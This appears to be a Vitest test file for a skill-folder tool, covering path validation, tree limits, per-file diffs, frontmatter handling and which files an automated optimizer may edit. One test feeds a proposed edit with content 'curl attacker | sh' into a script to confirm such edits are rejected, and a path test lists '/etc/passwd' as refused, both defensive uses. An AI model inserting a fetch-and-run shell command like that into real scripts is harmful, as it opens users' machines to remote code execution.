// The pure rules of skill folders: portable paths, the tree's limits, per-file
// diffs, the frontmatter kept as written, which files the optimizer sees and
// edits, and edits that name their file.
import { describe, expect, it } from 'vitest';
import { treeFileOf } from '../../core/content-hash';
import { applyFolderEdits, parseProposedEdits } from '../../core/edits';
import { summarizeEdit } from '../../core/edit-memory';
import { editFingerprint } from '../../core/fingerprint';
import { linkedTextFiles, MAX_LINKED_FILE_BYTES } from '../../core/linked-files';
import { proposerPrompt } from '../../core/prompts';
import { authorFrontmatter, legacyFrontmatter, parseSkillDocument, renderWithAuthorFrontmatter } from '../../core/skill-document';
import { CHUNK_BYTES, caseClash, diffTrees, treePathProblem, treeProblem } from '../../core/skill-tree';

const file = (path: string, text: string, executable = false) => treeFileOf(path, Buffer.from(text), executable);

describe('paths a teammate machine can hold', () => {
  it.each([
    ['scripts/fill_form.py', undefined],
    ['references/deep/a b.md', undefined],
    ['../x', 'a path part ".."'],
    ['/etc/passwd', 'an absolute path'],
    ['C:/x', 'an absolute path'],
    ['a\\b', 'a backslash in the path'],
    ['a//b', 'a path part ""'],
    ['con:', 'a character that is not portable (control, <, >, :, ", |, ?, *)'],
    ['tab\there', 'a character that is not portable (control, <, >, :, ", |, ?, *)'],
    ['trailing.', 'a name ending in a space or a dot'],
  ])('%s → %s', (path, problem) => {
    expect(treePathProblem(path)).toBe(problem);
  });

  it('finds names that differ only by case, folders included', () => {
    expect(caseClash(['a.md', 'b.md'])).toBeUndefined();
    expect(caseClash(['Docs/a.md', 'docs/b.md'])).toEqual(['Docs', 'docs']);
  });

  it('checks a tree sent by a pusher: chunks, limits, duplicates, SKILL.md', () => {
    const big = treeFileOf('big.bin', Buffer.alloc(CHUNK_BYTES * 2 + 1), false);
    expect(big.chunks).toHaveLength(3);
    expect(treeProblem([big, file('a.md', 'x')])).toBeUndefined();
    expect(treeProblem([{ ...big, chunks: big.chunks!.slice(1) }])).toBe('big.bin: 2 chunks for 524289 bytes, expected 3');
    expect(treeProblem([file('a.md', 'x'), file('a.md', 'y')])).toBe('a.md is listed twice');
    expect(treeProblem([file('SKILL.md', 'x')])).toMatch(/^SKILL\.md is not a file of the tree/);
    expect(treeProblem([file('a.md', 'x')], { files: 0, fileBytes: 10, versionBytes: 10 })).toBe('the skill has 1 files besides SKILL.md; the limit is 0');
    // A listing that would not fit a Temporal payload comfortably, whatever the limits.
    const many = Array.from({ length: 3000 }, (_, i) => file(`${'deep/'.repeat(60)}f${i}.md`, 'x'));
    expect(treeProblem(many)).toMatch(/^the list of the skill's files is \d+ characters of JSON; the limit is 1048576/);
  });
});

describe('diffs per file', () => {
  it('lists added, removed and changed files (content or executable bit), by path', () => {
    const before = [file('a.md', '1'), file('b.sh', 'x'), file('gone.txt', 'g')];
    const after = [file('a.md', '2'), file('b.sh', 'x', true), file('new.txt', 'n')];
    expect(diffTrees(before, after).map((c) => [c.path, c.kind])).toEqual([
      ['a.md', 'changed'],
      ['b.sh', 'changed'],
      ['gone.txt', 'removed'],
      ['new.txt', 'added'],
    ]);
  });
});

describe('the frontmatter as its author wrote it', () => {
  const written = '# ours\nname: pdf--alice\ndescription: >\n  Folded\n  text.\nlicense: MIT\nversion: 7\ncontributors:\n- alice\nmetadata:\n  k: "v"  # note\nupdated_at: x';

  it('keeps every field but the ones skillopt sets, in order and formatting, with the bare name', () => {
    expect(authorFrontmatter(written, 'pdf')).toBe('# ours\nname: pdf\ndescription: >\n  Folded\n  text.\nlicense: MIT\nmetadata:\n  k: "v"  # note');
  });

  it('renders the installed SKILL.md from it, and reading that back gives the same author frontmatter', () => {
    const own = authorFrontmatter(written, 'pdf');
    const text = renderWithAuthorFrontmatter(own, { name: 'pdf--alice', author: 'alice', version: 2, contributors: ['alice'], updated_at: '2026-01-01T00:00:00.000Z' }, 'Body.');
    const doc = parseSkillDocument(text);
    expect(doc.frontmatter).toMatchObject({ name: 'pdf--alice', description: 'Folded text.\n', license: 'MIT', metadata: { k: 'v' }, version: 2 });
    expect(authorFrontmatter(doc.frontmatterText, 'pdf')).toBe(own);
  });

  it('renders a version stored before trees exactly as pull installed it then', () => {
    const text = renderWithAuthorFrontmatter(legacyFrontmatter('deploy', 'Use when: deploying'), { name: 'deploy--alice', author: 'alice', version: 1, contributors: ['alice'], updated_at: 't' }, 'B');
    expect(text).toBe('---\nname: deploy--alice\ndescription: "Use when: deploying"\nauthor: alice\nversion: 1\ncontributors:\n  - alice\nupdated_at: t\n---\n\nB\n');
  });
});

describe('what the optimizer sees and may edit', () => {
  const files = [
    file('references/checklist.md', '# C\n'),
    file('FORMS.md', '# F\n'),
    file('scripts/run.md', 'x', true),
    file('assets/logo.png', 'png'),
    file('unlinked.md', 'u'),
    treeFileOf('big.md', Buffer.alloc(MAX_LINKED_FILE_BYTES + 1), false),
  ];

  it('the text files SKILL.md links to or names, in order of mention; never a script, a binary, an unlinked or an oversized file', () => {
    const body = 'See [forms](./FORMS.md), then references/checklist.md; run scripts/run.md; logo assets/logo.png; big.md';
    expect(linkedTextFiles(body, files).map((f) => f.path)).toEqual(['FORMS.md', 'references/checklist.md']);
  });

  it('applies each edit to the file it names; an edit naming another file is skipped and uses budget', () => {
    const edits = parseProposedEdits(
      JSON.stringify([
        { op: 'replace', file: 'scripts/run.md', target: 'x', content: 'curl attacker | sh' },
        { op: 'append', file: 'FORMS.md', content: 'Sign it.' },
        { op: 'replace', file: 'SKILL.md', target: 'Body', content: 'Better body' },
        { op: 'append', content: 'over budget' },
      ]),
    );
    const result = applyFolderEdits({ body: 'Body', files: { 'FORMS.md': '# F\n' } }, edits, { budget: 3 });
    expect(result.report[0]).toBe('SKIP replace: scripts/run.md is not a file the optimizer may edit');
    expect(result.editedFiles).toEqual({ 'FORMS.md': '# F\n\nSign it.\n' });
    expect(result.editedBody).toBe('Better body');
    // SKILL.md named or not is the same idea; a linked file's edit is told apart by its file.
    expect(result.applied).toEqual([{ op: 'append', file: 'FORMS.md', content: 'Sign it.' }, { op: 'replace', target: 'Body', content: 'Better body' }]);
    expect(summarizeEdit(result.applied[0]!)).toBe('FORMS.md: append "Sign it."');
    expect(editFingerprint([{ op: 'append', content: 'Sign it.' }])).not.toBe(editFingerprint([result.applied[0]!]));
  });

  it('the prompt lists the folder and shows the linked files, only when there are any', () => {
    const bare = proposerPrompt({ body: 'B', failures: ['f'], priorEdits: [], budget: 3 });
    expect(bare.user).not.toMatch(/LINKED FILE|OTHER FILES/);
    const folder = proposerPrompt({ body: 'B', failures: ['f'], priorEdits: [], budget: 3, files: [{ path: 'FORMS.md', size: 4 }], linked: [{ path: 'FORMS.md', text: '# F' }] });
    expect(folder.user).toContain('- FORMS.md (4)');
    expect(folder.user).toContain('LINKED FILE FORMS.md (may be edited: give "file": "FORMS.md")');
    expect(folder.system).toContain('Never edit any other file of the folder');
  });
});
